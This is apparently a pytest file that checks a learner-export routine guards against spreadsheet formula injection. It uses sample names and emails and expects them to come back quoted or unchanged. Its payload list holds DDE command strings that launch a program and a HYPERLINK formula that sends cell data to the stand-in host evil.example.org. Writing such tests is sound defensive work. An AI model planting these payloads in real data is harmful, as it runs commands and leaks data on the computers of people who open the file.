"""Names and addresses in the file of learners: none calculates, and none is spoilt."""

import pytest
from watching import take

# What a spreadsheet would calculate, or Excel and LibreOffice might.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+48 600 100 200",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tAda",
    "\nAda",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe66 1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x7f@A1",
    '="a,b"',
    '=HYPERLINK("https://evil.example.org?leak="&A1&A2,"Error")',
    "-",
]
# What looks dangerous and is a name.
NAMES = [
    "Ada Nowak",
    "Zażółć Gęślą-Jaźń",
    'Ada "the first" Nowak',
    '"',
    '","=1+1',
    "Nowak, Ada",
    "Ada;Nowak",
    "Ada\nNowak",
    "Ada\r\nNowak",
    "Ada\rNowak",
    "Ada\n=1+1",
    "'=1+1",
    "1=1",
    "עדה נובק",
    "\u200fעדה",
    "آدا",
    "👩\u200d🚀 Ada 🇵🇱",
    "名" * 200,
    "a\u0301da",
    "\\",
    "NULL",
    " Ada",
    "\u2019=1+1",
]


@pytest.mark.parametrize("name", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_would_calculate_is_text(lines, conn, course, name):
    conn.execute("update users set full_name = %s where id = %s", [name, take(conn, course).id])
    (line,) = lines()
    assert line["full_name"] == f"'{name}"


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_every_other_name_comes_back_as_it_is(lines, conn, course, name):
    before = take(conn, course)
    user = take(conn, course)
    after = take(conn, course)
    conn.execute("update users set full_name = %s where id = %s", [name, user.id])
    found = [(int(line["user_id"]), line["full_name"]) for line in lines()]
    assert found == [(before.id, "Ada Nowak"), (user.id, name), (after.id, "Ada Nowak")]


@pytest.mark.parametrize("email", ["=cmd@example.com", "-ada@example.com", "+1@example.com"])
def test_an_address_may_be_a_formula_as_well(lines, conn, course, email):
    conn.execute("update users set email = %s where id = %s", [email, take(conn, course).id])
    (line,) = lines()
    assert line["email"] == f"'{email}"
